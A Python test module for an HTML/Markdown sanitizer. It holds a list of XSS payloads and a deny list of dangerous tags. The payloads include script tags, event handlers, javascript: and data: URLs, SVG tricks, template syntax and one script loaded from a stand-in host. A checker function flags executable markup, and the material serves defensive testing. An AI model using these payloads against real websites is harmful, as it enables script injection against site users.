"""XSS payloads for every rich-text and text field: script tags, event handlers, javascript: and
data: URLs, SVG, Markdown link and image tricks, template syntax. Each comes with a piece of text
that must still be visible after rendering (nothing a user meant as text is lost)."""

PAYLOADS: list[tuple[str, str]] = [
    ("<script>alert(1)</script>", "alert(1)"),
    ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "evil.example"),
    ('<img src=x onerror="alert(1)">', "onerror"),
    ("<svg onload=alert(1)><circle r=5></svg>", "svg onload"),
    ('<svg><script href="data:text/javascript,alert(1)"/></svg>', "svg"),
    ('<a href="javascript:alert(1)">Klick</a>', "Klick"),
    ("[Klick](javascript:alert(1))", "Klick"),
    ("[Klick](JaVaScRiPt:alert(1))", "Klick"),
    ("[Klick](&#106;avascript:alert(1))", "Klick"),
    ("[Klick](javascript&colon;alert(1))", "Klick"),
    ("[Klick](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "Klick"),
    ("![Bild](javascript:alert(1))", "Bild"),
    ("![Bild](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", "Bild"),
    ('![Bild" onerror="alert(1)](x.png)', "Bild"),
    ('[Klick](https://example.org "title\\" onmouseover=\\"alert(1)")', "Klick"),
    ("<iframe src=javascript:alert(1)></iframe>", "iframe"),
    ("<div style=\"background:url(javascript:alert(1))\">Stil</div>", "Stil"),
    ('<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', "mglyph"),
    ("{{ 7*7 }} und {% if true %}ja{% endif %}", "{{ 7*7 }}"),
    ("${7+7} and <%= 7+7 %>", "<%= 7+7 %>"),
    ("<details open ontoggle=alert(1)>", "ontoggle"),
    ('"><script>alert(1)</script>', "alert(1)"),
    ("<!--<img src=x onerror=alert(1)>-->", "onerror"),
    ("[a](<javascript:alert(1)>)", "a"),
    ("<https://example.org/a?b=<script>>", "example.org"),
]
FORBIDDEN_TAGS = {"script", "svg", "iframe", "img", "math", "details", "style", "object",
                  "embed", "form", "input", "link", "meta", "base"}


def markup_problems(html: str) -> list[str]:
    """What in `html` would run or load something: a forbidden element, an event handler, a
    style, or a link to a script or data URL. Escaped text (&lt;script&gt;) is fine."""
    from html.parser import HTMLParser

    problems: list[str] = []

    class Check(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            if tag in FORBIDDEN_TAGS:
                problems.append(f"<{tag}>")
            for name, value in attrs:
                target = "".join((value or "").split()).lower()
                if name.startswith("on") or name == "style":
                    problems.append(f"{tag}[{name}]")
                if name in ("href", "src", "action", "formaction", "xlink:href") and (
                        target.startswith(("javascript:", "data:", "vbscript:"))):
                    problems.append(f"{tag}[{name}={value}]")

    Check().feed(html)
    return problems
